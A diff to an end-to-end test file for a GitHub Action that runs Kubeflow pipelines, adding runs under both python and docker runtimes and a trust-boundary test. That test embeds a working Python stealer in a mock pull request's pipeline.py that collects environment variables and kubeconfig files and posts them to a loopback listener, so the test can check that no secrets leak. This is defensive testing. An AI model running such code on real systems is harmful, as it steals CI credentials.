@@ -4,10 +4,14 @@
 - The event: an example payload from npm @octokit/webhooks-examples, changed only where the
   scenario needs (repository, number, comment, author; `issue.pull_request` for a PR), and
   validated against GitHub's webhook schema (npm @octokit/webhooks-schemas) first.
-- The job: act in host mode reads the workflow's trigger, job `if`s, permissions and concurrency,
-  runs the composite action (its `runtime: python` mode, selected by the repository variable
-  KFOPS_RUNTIME as a user would: there is no Docker engine here for the image) and checks out
-  the pull request with a local stand-in for actions/checkout (tests/e2e/actions/README.md).
+- The job: act reads the workflow's trigger, job `if`s, permissions and concurrency and runs each
+  job in a container of a runner image (git, the docker CLI, the engine's socket), as a
+  GitHub-hosted runner would, with the action as a release publishes it: action.yml names kfops'
+  image by digest, built from the Dockerfile by a real container engine (tests/e2e/engine.py).
+  Every scenario runs in both runtimes, selected by the repository variable KFOPS_RUNTIME as a
+  user would: `python` (installed on the first job, restored from the cache on the next ones)
+  and `docker` (the image, by `docker run` from the action's shell step). actions/checkout and
+  actions/cache are local stand-ins (tests/e2e/actions/README.md).
 - The world: the fake GitHub behind Prism (every request and answer checked against GitHub's
   API description), the fake KFP server (held to KFP's API models), and a local git server
   holding the model repository with its pull-request refs.
@@ -17,6 +21,7 @@ Each scenario is one row of SCENARIOS: the comments, in order, and what must fol
 
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -31,7 +36,9 @@ from e2e.act import HOW_TO as ACT_HOW_TO
 from e2e.act import Act, act_binary
 from e2e.github import E2EGitHub, PrismLog
 from e2e.repos import ModelRepository, base_config, make_repository
-from e2e.runtime import act_cache_home, action_dir, python_runtime
+from e2e.engine import HOW_TO as ENGINE_HOW_TO
+from e2e.engine import EngineUnavailable, engine, kfops_image, runner_image
+from e2e.runtime import act_cache_home, pinned_action_dir
 from fakes.deploy_fixtures import admin, endpoint, kserve, namespace  # noqa: F401
 
 pytestmark = pytest.mark.infra
@@ -39,6 +46,7 @@ pytestmark = pytest.mark.infra
 OWNER, REPO = "kfops-org", "model"
 GITHUB_TOKEN = "ghs_kfopsE2eToken00001111222233334444555"
 SAME_REPO_PR, FORK_PR, PLAIN_ISSUE = 7, 8, 9
+RUNTIMES = ("python", "docker")
 
 # Three problems, on lines 4, 5 and 7 of kfops.yaml on the base branch.
 BROKEN_BASE_CONFIG = """version: 1
@@ -155,13 +163,26 @@ def act_tool() -> Act:
         require_infra("act", ACT_HOW_TO)
     if not webhooks.available():
         require_infra("GitHub's webhook examples and schemas", webhooks.HOW_TO)
+    try:
+        host = engine()
+    except EngineUnavailable as exc:
+        require_infra(f"a container engine ({exc})", ENGINE_HOW_TO)
+        raise
     assert binary is not None
-    python_runtime()  # the action's pinned environment, installed once into act's tool cache
-    return Act(binary, action_dir(), act_cache_home())
+    cache = act_cache_home() / "actions-cache"  # the cache/restore and cache/save stand-ins' store
+    cache.mkdir(exist_ok=True)
+    return Act(binary, pinned_action_dir(kfops_image()), act_cache_home(), host, runner_image(),
+               shared={"KFOPS_E2E_CACHE_ROOT": cache})
+
+
+@pytest.fixture(params=RUNTIMES)
+def runtime(request: pytest.FixtureRequest) -> str:
+    return str(request.param)
 
 
 @pytest.fixture
-def world(act_tool: Act, e2e_github: tuple[E2EGitHub, PrismLog], fake_kfp: Any, tmp_path: Path) -> World:
+def world(act_tool: Act, e2e_github: tuple[E2EGitHub, PrismLog], fake_kfp: Any, tmp_path: Path,
+          runtime: str) -> World:
     github, prism = e2e_github
     github.reset()
     fake_kfp.run_states = ["SUCCEEDED"]  # the run ends at the first poll: no waiting in the test
@@ -171,10 +192,11 @@ def world(act_tool: Act, e2e_github: tuple[E2EGitHub, PrismLog], fake_kfp: Any, 
     github.add_pull(SAME_REPO_PR, head_sha=repo.heads[SAME_REPO_PR], user="alice")
     github.add_fork_pull(FORK_PR, head_sha=repo.heads[FORK_PR], fork_owner="mallory")
     github.add_issue(PLAIN_ISSUE, title="The model is slow")
-    act = Act(act_tool.binary, act_tool.action_dir, act_tool.cache_home,
+    act = Act(act_tool.binary, act_tool.action_dir, act_tool.cache_home, act_tool.docker_host,
+              act_tool.runner_image, shared={**act_tool.shared, "KFOPS_E2E_GIT_ROOT": repo.git_root},
               secrets={"GITHUB_TOKEN": GITHUB_TOKEN, "KFOPS_KUBEFLOW_TOKEN": FAKE_TOKEN},
-              variables={"KFOPS_RUNTIME": "python"},
-              env={"GITHUB_API_URL": github.public_url or github.url, "KFOPS_E2E_GIT_ROOT": str(repo.git_root)})
+              variables={"KFOPS_RUNTIME": runtime},
+              env={"GITHUB_API_URL": github.public_url or github.url})
     return World(act, github, prism, repo, tmp_path)
 
 
@@ -235,7 +257,7 @@ def prepare_deploy(world: World, fake_kfp: Any, cluster: Cluster) -> str:
 
     for name in ("inference-service.yaml", "sample-request.json"):
         world.github.add_file(name, (QUICKSTART / name).read_text(encoding="utf-8"), ref="main")
-    world.act.secrets["KFOPS_KUBECONFIG"] = cluster.kubeconfig.read_text(encoding="utf-8")
+    world.act.secrets["KFOPS_KUBECONFIG"] = cluster.api.self_contained_kubeconfig()
     store = cluster.mlmd.store
     store.seed({"runs": [{"run_id": "e2e-train", "tasks": [{"name": "train", "model": True}]}]})
     [model] = [i for i, a in store.artifacts.items() if a.uri.endswith("/e2e-train/train/model")]
@@ -321,3 +343,94 @@ def test_help_runs_in_the_chat_job(world: World, fake_kfp: Any) -> None:
     assert re.search(r"@dave here you may run:", reply), reply
     assert [name for name, _ in result.steps("chat") if "heck out" in name] == []
     assert world.prism.problems() == []
+
+
+def test_python_runtime_warm_start_installs_nothing(world: World, fake_kfp: Any, runtime: str) -> None:
+    """The python runtime's environment travels between jobs in actions/cache (keyed on the
+    interpreter and what is installed): once one job has saved it, a job on a fresh runner
+    restores it and pip installs nothing. The docker runtime never installs anything."""
+    world.github.add_file("kfops.yaml", base_config(fake_kfp.url), ref="main")
+    comment_on(world, Comment("/help", user="dave", role="read"))  # saves the environment if none is
+    result, _, _ = comment_on(world, Comment("/help", user="erin", role="read"))
+    assert result.jobs == {"chat": "success"}, result.explain()
+    log = result.log
+    assert "-m pip" not in log and "Installing collected packages" not in log, result.explain()
+    if runtime == "python":
+        assert "Cache restored from key: kfops-action-linux-" in log, result.explain()
+        assert "kfops is already installed in /" in log, result.explain()
+    else:
+        assert "Cache restored" not in log and "Install kfops" not in [s for s, _ in result.steps("chat")]
+
+
+# -- the trust boundary, as the user's workflow draws it -----------------------------------------
+
+HOSTILE_PR = 10
+BUILD_KUBECONFIG = "apiVersion: v1\nkind: Config\n# kfops-e2e build credential: kfopsBuildOnly0000111122223333\n"
+DEPLOY_KUBECONFIG = "apiVersion: v1\nkind: Config\n# kfops-e2e deploy credential: kfopsDeployOnly000011112222\n"
+KUBEFLOW_TOKEN_IN_ENV = FAKE_TOKEN
+
+# Appended to the pull request's pipeline.py: at import it collects every variable and every
+# kubeconfig-like file it can reach, and sends them to a listener on loopback (the network is
+# open to it, as on a real runner).
+HOSTILE_CODE = """
+import glob as _g, json as _j, os as _o, urllib.request as _u
+_found = {"env": dict(_o.environ), "files": {}}
+for _pattern in ("/tmp/**/kubeconfig", "/github/**/kubeconfig", _o.path.expanduser("~/.kube/config"),
+                 "/home/**/.kube/config", "/root/.kube/config"):
+    for _path in _g.glob(_pattern, recursive=True):
+        try:
+            _found["files"][_path] = open(_path).read()
+        except OSError as _e:
+            _found["files"][_path] = repr(_e)
+_u.urlopen("http://127.0.0.1:%d/", data=_j.dumps(_found).encode(), timeout=10)
+"""
+
+
+@pytest.fixture
+def spy() -> Iterator[tuple[int, list[dict[str, Any]]]]:
+    """A listener on loopback that keeps what the hostile pipeline sends it."""
+    import json
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    received: list[dict[str, Any]] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:  # noqa: N802
+            received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield server.server_address[1], received
+    finally:
+        server.shutdown()
+
+
+def test_pull_request_code_holds_no_deploy_credential(world: World, fake_kfp: Any,
+                                                      spy: tuple[int, list[dict[str, Any]]]) -> None:
+    """A write user's pull request whose pipeline.py steals what it can, run by `/build --dry-run`
+    through the user's workflow: the PR's code runs (it reports in), but it finds no token and
+    no deploy credential. The deploy kubeconfig exists only in the deploy job (a GitHub
+    Environment's secret); the build kubeconfig, which the pipeline job holds for Kaniko, is a
+    file the code is never told about."""
+    port, received = spy
+    head = world.repo.add_pull(HOSTILE_PR, "a faster model", code=HOSTILE_CODE % port)
+    world.github.add_pull(HOSTILE_PR, head_sha=head, user="mallory")
+    world.github.add_file("kfops.yaml", base_config(fake_kfp.url), ref="main")
+    world.act.secrets.update(KFOPS_BUILD_KUBECONFIG=BUILD_KUBECONFIG, KFOPS_KUBECONFIG=DEPLOY_KUBECONFIG)
+    result, _, _ = comment_on(world, Comment("/build --dry-run", user="mallory", role="write", on=HOSTILE_PR))
+    assert result.jobs == {"pipeline": "success"}, result.explain()
+    assert received, "the pull request's pipeline code did not run\n" + result.explain()
+    stolen = json.dumps(received)
+    for secret in (GITHUB_TOKEN, KUBEFLOW_TOKEN_IN_ENV, "kfopsDeployOnly000011112222", "kfopsBuildOnly0000111122223333"):
+        assert secret not in stolen, f"the pull request's code got {secret[:12]}...: {stolen[:3000]}"
+    env = received[0]["env"]
+    assert not any(k.startswith(("GITHUB_", "INPUT_", "ACTIONS_", "KF_PIPELINES_", "KUBECONFIG")) for k in env), env
+    text = "\n".join(_bot_bodies(world.github, HOSTILE_PR))
+    assert "Dry run: pipeline `quickstart-classifier` compiles" in text, text
